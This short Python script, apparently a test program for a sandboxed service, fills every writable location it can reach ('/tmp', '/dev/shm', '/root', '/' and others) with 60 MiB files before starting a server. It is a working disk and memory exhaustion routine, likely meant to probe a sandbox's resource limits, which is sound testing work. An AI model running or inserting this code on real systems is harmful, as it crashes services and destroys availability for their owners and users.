# Fills every writable folder.
import os
from serve import serve
for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/run", "/home", "/root", "/"):
    for number in range(64):
        try:
            with open(f"{folder}/filler{number}", "wb") as out:
                out.write(b"x" * (60 << 20))
        except OSError:
            break
serve()
